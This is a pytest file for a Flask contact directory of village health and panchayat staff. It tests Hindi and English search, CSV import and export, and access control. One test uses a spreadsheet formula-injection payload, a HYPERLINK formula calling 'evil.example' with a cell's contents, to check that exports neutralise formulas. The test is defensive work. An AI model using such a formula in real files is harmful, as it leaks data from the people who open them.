"""The field directory: search as typed, tel: links, CSV import (all or nothing) and export."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from models.desk.contacts import export_contacts, load_contacts, search_contacts
from models.desk.tables import Contact
from models.reference.loading import ImportFailed
from models.reference.tables import User
from tests.conftest import csrf_token, login

HEADER = "block,village,role,name,phone,active\n"


def count(session: Session) -> int:
    session.expire_all()
    return session.scalar(select(func.count()).select_from(Contact)) or 0


def names(contacts: list[Contact]) -> list[str]:
    return [c.name for c in contacts]


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("bish", ["सुनीता देवी", "Ramesh Singh", "Kavita Ekka"]),  # village, by role
        ("  BISHRAMPUR ", ["सुनीता देवी", "Ramesh Singh", "Kavita Ekka"]),
        ("बिश्राम", ["सुनीता देवी", "Ramesh Singh", "Kavita Ekka"]),  # the village in Hindi
        ("सुनी", ["सुनीता देवी"]),  # a Hindi name
        ("rekha", ["Rekha Minj"]),
        ("mohan s", ["Mohan Sahu"]),
        ("94251 00007", ["बुधराम सिंह"]),  # phone digits, as written on paper
        ("094251000", ["सुनीता देवी", "Ramesh Singh", "Kavita Ekka", "Phoolmati Paikra", "अजय कुमार"]),
        ("+91 9425100010", ["Mohan Sahu"]),
        ("9999", []),
        ("atlantis", []),
        ("100%", []),
        ("", []),
    ],
)
def test_it_finds_contacts_by_village_name_or_phone(
    session: Session, district: dict[str, User], typed: str, expected: list[str]
) -> None:
    assert names(search_contacts(session, typed, limit=5)) == expected


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("sarpanch", ["Ramesh Singh", "बुधराम सिंह"]),  # by village: Bishrampur, Chando
        ("सरपंच", ["Ramesh Singh", "बुधराम सिंह"]),
        ("Sarp", ["Ramesh Singh", "बुधराम सिंह"]),  # as typed
        ("mitanin", ["सुनीता देवी", "Sukhmaniya Devi", "Phoolmati Paikra", "Shanti Rajwade"]),
        ("sarpanch chando", ["बुधराम सिंह"]),
        ("Sarpanch of Chando", ["बुधराम सिंह"]),
        ("चांदो का सरपंच", ["बुधराम सिंह"]),
        ("मितानिन जय", ["Phoolmati Paikra"]),
        ("panchayat secretary", ["अजय कुमार", "Mohan Sahu"]),
        ("secretary sawaraon", ["Mohan Sahu"]),
        ("पंचायत सचिव सावा", ["Mohan Sahu"]),
        ("anm kavita", ["Kavita Ekka"]),
        ("sarpanch kharsura", []),  # Kharsura lists no Sarpanch
        ("sarpanch atlantis", []),
    ],
)
def test_it_finds_contacts_by_role_alone_or_with_a_village_or_name(
    session: Session, district: dict[str, User], typed: str, expected: list[str]
) -> None:
    assert names(search_contacts(session, typed, limit=5)) == expected


def test_it_finds_a_role_within_one_village(session: Session, district: dict[str, User]) -> None:
    chando = search_contacts(session, "Sukhmaniya")[0].village_id
    assert names(search_contacts(session, "sarpanch", village_id=chando)) == ["बुधराम सिंह"]


def test_it_offers_the_roles_before_anything_is_typed(client: FlaskClient, district: dict[str, User]) -> None:
    login(client, "operator")
    for path in ("/directory", "/directory?q=&partial=1"):
        page = client.get(path).get_data(as_text=True)
        assert '<a href="/directory?q=Sarpanch">Sarpanch</a>' in page, path
        assert '<a href="/directory?q=Mitanin">Mitanin</a>' in page, path
    login(client, "bmo")  # reads Hindi: the links search the Hindi names
    page = client.get("/directory").get_data(as_text=True)
    assert ">सरपंच</a>" in page
    link = re.search(r'<a href="([^"]+)">सरपंच</a>', page)
    assert link is not None
    assert "बुधराम सिंह" in client.get(link.group(1)).get_data(as_text=True)


def test_it_searches_as_typed_with_tel_links(client: FlaskClient, district: dict[str, User]) -> None:
    login(client, "cmho")  # every member of staff
    page = client.get("/directory?q=chan").get_data(as_text=True)
    assert '<a href="tel:+919425100006">+919425100006</a>' in page and "बुधराम सिंह" in page
    assert "<html" in page and "Import CSV" not in page
    partial = client.get("/directory?q=chan&partial=1").get_data(as_text=True)
    assert "<html" not in partial and "Sukhmaniya Devi" in partial


def test_it_filters_by_village(client: FlaskClient, session: Session, district: dict[str, User]) -> None:
    login(client, "operator")
    chando = search_contacts(session, "Sukhmaniya")[0].village_id
    page = client.get(f"/directory?village={chando}").get_data(as_text=True)
    assert "Sukhmaniya Devi" in page and "बुधराम सिंह" in page and "Rekha Minj" not in page
    assert "Only Chando (Pratappur)." in page
    page = client.get(f"/directory?village={chando}&q=बुध").get_data(as_text=True)
    assert "बुधराम सिंह" in page and "Sukhmaniya Devi" not in page


def test_it_shows_hindi_names_to_hindi_readers(
    client: FlaskClient, session: Session, district: dict[str, User]
) -> None:
    login(client, "bmo")  # reads Hindi
    page = client.get("/directory?q=chando").get_data(as_text=True)
    assert "चांदो (प्रतापपुर)" in page and "मितानिन" in page


def test_it_hides_inactive_contacts(session: Session, district: dict[str, User]) -> None:
    load_contacts(session, io.StringIO(HEADER + "Pratappur,Kharsura,anm,Rekha Minj,9425100008,no\n"))
    session.commit()
    assert search_contacts(session, "rekha") == []


def test_it_needs_a_login(client: FlaskClient, district: dict[str, User]) -> None:
    response = client.get("/directory?q=bish")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def upload(client: FlaskClient, text: str, **extra: Any) -> Any:
    page = client.get("/directory/import").get_data(as_text=True)
    data = {
        "csrf_token": csrf_token(page),
        "file": (io.BytesIO(text.encode("utf-8-sig")), "contacts.csv"),
        **extra,
    }
    return client.post("/directory/import", data=data, content_type="multipart/form-data")


def test_it_imports_a_csv_keeping_hindi_exactly(
    client: FlaskClient, session: Session, district: dict[str, User]
) -> None:
    login(client, "admin")
    text = HEADER + (
        "Surajpur,Jayanagar,ANM,श्रीमती कमला बाई,+91 94252 00001,\n"  # role by name, any case
        "प्रतापपुर,खरसुरा,मितानिन,Lalita Kerketta,09425200002,yes\n"  # village and role in Hindi
        "Surajpur,Jayanagar,mitanin,Phoolmati Paikra (new),9425100004,yes\n"  # updates a listed one
    )
    response = upload(client, text)
    assert response.status_code == 302 and response.headers["Location"] == "/directory"
    page = client.get("/directory").get_data(as_text=True)
    assert "3 contacts imported: 2 new, 1 already listed." in page
    assert count(session) == 12
    [kamala] = search_contacts(session, "श्रीमती")
    assert (kamala.name, kamala.phone, kamala.role.code, kamala.village.name) == (
        "श्रीमती कमला बाई",
        "+919425200001",
        "anm",
        "Jayanagar",
    )
    assert names(search_contacts(session, "phool")) == ["Phoolmati Paikra (new)"]


def test_it_imports_nothing_when_a_row_is_bad(
    client: FlaskClient, session: Session, district: dict[str, User]
) -> None:
    login(client, "admin")
    text = HEADER + (
        "Surajpur,Jayanagar,anm,Good Row,9425200001,\n"
        "Surajpur,Atlantis,anm,Nowhere,9425200002,\n"
        "Surajpur,Jayanagar,vet,Unknown Role,9425200003,\n"
        "Surajpur,Jayanagar,anm,Bad Phone,12345,\n"
        ",Jayanagar,anm,,9425200004,\n"
        "Surajpur,Jayanagar,anm,Twice,9425200001,\n"
        "Surajpur,Jayanagar,anm,Maybe,9425200005,perhaps\n"
    )
    response = upload(client, text)
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    for error in [
        "line 3: unknown village &#39;Atlantis&#39; in block &#39;Surajpur&#39;",
        "line 4: unknown role &#39;vet&#39;",
        "line 5: invalid phone number &#39;12345&#39;",
        "line 6: &#39;name&#39; is empty",
        "line 7: same village, role and phone as line 2",
        "line 8: &#39;active&#39; must be yes or no, not &#39;perhaps&#39;",
    ]:
        assert error in page
    assert "Nothing was imported" in page and "line 2:" not in page
    assert count(session) == 10


def test_it_takes_indian_phone_numbers_only_in_any_digits(
    client: FlaskClient, session: Session, district: dict[str, User]
) -> None:
    login(client, "admin")
    response = upload(client, HEADER + "Surajpur,Jayanagar,anm,Foreign,+1 415 555 0100,yes\n")
    assert response.status_code == 400
    assert "line 2: invalid phone number &#39;+1 415 555 0100&#39;" in response.get_data(as_text=True)
    assert upload(client, HEADER + "Surajpur,Jayanagar,anm,Devanagari,९४२५२ ००००१,yes\n").status_code == 302
    assert [c.phone for c in search_contacts(session, "Devanagari")] == ["+919425200001"]


def test_it_reports_missing_columns_and_files_that_are_not_csv(
    client: FlaskClient, session: Session, district: dict[str, User]
) -> None:
    with pytest.raises(ImportFailed) as failed:
        load_contacts(session, io.StringIO("village,name\nChando,X\n"))
    assert failed.value.report.errors == ["line 1: missing columns role, phone"]
    login(client, "admin")
    page = client.get("/directory/import").get_data(as_text=True)
    data = {"csrf_token": csrf_token(page), "file": (io.BytesIO(b"\xff\xfe\x00bad"), "x.csv")}
    response = client.post("/directory/import", data=data, content_type="multipart/form-data")
    assert response.status_code == 400 and "not a CSV file in UTF-8" in response.get_data(as_text=True)


def test_it_exports_what_it_imports(client: FlaskClient, session: Session, district: dict[str, User]) -> None:
    login(client, "admin")
    response = client.get("/directory/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment; filename=contacts-" in response.headers["Content-Disposition"]
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    assert text.splitlines()[0] == "block,village,village_hi,role,name,phone,active"
    assert "Surajpur,Bishrampur,बिश्रामपुर,mitanin,सुनीता देवी,+919425100001,yes" in text.splitlines()
    before = [(c.name, c.phone, c.village_id, c.role_id, c.active) for c in session.scalars(select(Contact))]
    response = upload(client, text)
    assert response.status_code == 302
    assert "10 contacts imported: 0 new, 10 already listed." in client.get("/directory").get_data(
        as_text=True
    )
    session.expire_all()
    after = [(c.name, c.phone, c.village_id, c.role_id, c.active) for c in session.scalars(select(Contact))]
    assert after == before
    out = io.StringIO()
    assert export_contacts(session, out) == 10 and out.getvalue() == text


def test_it_exports_formulas_inert_and_loads_them_back_as_written(
    client: FlaskClient, session: Session, district: dict[str, User]
) -> None:
    login(client, "admin")
    formula = '=HYPERLINK("http://evil.example/?x="&A1;"Click")'
    text = HEADER + f'Surajpur,Jayanagar,anm,"{formula.replace(chr(34), chr(34) * 2)}",9425200001,yes\n'
    text += "Surajpur,Jayanagar,anm,@SUM(1+1),9425200002,yes\n"
    assert upload(client, text).status_code == 302
    exported = client.get("/directory/export.csv").get_data().decode("utf-8-sig")
    rows = {r["phone"]: r for r in csv.DictReader(io.StringIO(exported))}
    assert rows["+919425200001"]["name"] == "'" + formula  # a spreadsheet shows it, never runs it
    assert rows["+919425200002"]["name"] == "'@SUM(1+1)"
    assert rows["+919425200001"]["village"] == "Jayanagar"  # plain text is untouched
    assert upload(client, exported).status_code == 302  # the export loads back unchanged
    session.expire_all()
    assert {c.name for c in session.scalars(select(Contact).where(Contact.phone.like("+9194252000%")))} == {
        formula,
        "@SUM(1+1)",
    }


@pytest.mark.parametrize("username", ["operator", "dm", "cmho"])
def test_it_lets_only_admins_import_and_export(
    client: FlaskClient, session: Session, district: dict[str, User], username: str
) -> None:
    login(client, username)
    assert client.get("/directory/export.csv").status_code == 403
    assert client.get("/directory/import").status_code == 403
    page = client.get("/directory").get_data(as_text=True)
    data = {"csrf_token": csrf_token(page), "file": (io.BytesIO(HEADER.encode()), "c.csv")}
    assert client.post("/directory/import", data=data, content_type="multipart/form-data").status_code == 403


def test_it_needs_a_csrf_token_to_import(
    client: FlaskClient, session: Session, district: dict[str, User]
) -> None:
    login(client, "admin")
    data = {"file": (io.BytesIO((HEADER + "Surajpur,Jayanagar,anm,X,9425200001,\n").encode()), "c.csv")}
    assert client.post("/directory/import", data=data, content_type="multipart/form-data").status_code == 400
    assert count(session) == 10


def test_it_accepts_a_directory_larger_than_the_form_limit(
    client: FlaskClient, session: Session, district: dict[str, User]
) -> None:
    login(client, "admin")
    rows = [f"Surajpur,Jayanagar,anm,Contact {i} {'x' * 40},94{i:08d},\n" for i in range(20_000)]
    text = HEADER + "".join(rows)
    assert len(text.encode()) > 1024 * 1024
    response = upload(client, text)
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    assert count(session) == 20_010


def test_it_loads_roles_and_contacts_from_the_command_line(
    app: Flask, session: Session, district: dict[str, User], tmp_path: Path
) -> None:
    runner = app.test_cli_runner()
    roles = tmp_path / "roles.csv"
    roles.write_text("code,name,name_hi\naww,Anganwadi worker,आंगनबाड़ी कार्यकर्ता\n", encoding="utf-8")
    result = runner.invoke(args=["load-contacts", "--roles", str(roles)])
    assert result.exit_code == 0 and "contact roles: 1 saved" in result.output, result.output
    contacts = tmp_path / "contacts.csv"
    contacts.write_text(
        "\ufeff" + HEADER + "Pratappur,Chando,आंगनबाड़ी कार्यकर्ता,गीता बाई,9425300001,\n", encoding="utf-8"
    )
    result = runner.invoke(args=["load-contacts", str(contacts)])
    assert result.exit_code == 0 and "contacts: 1 created, 0 updated" in result.output, result.output
    [geeta] = search_contacts(session, "गीता")
    assert geeta.role.code == "aww"
    bad = tmp_path / "bad.csv"
    bad.write_text(HEADER + "Pratappur,Chando,aww,X,123,\n", encoding="utf-8")
    result = runner.invoke(args=["load-contacts", str(bad)])
    assert result.exit_code == 1
    assert (
        "line 2: invalid phone number '123'" in result.output
        and "nothing imported: 1 bad rows" in result.output
    )
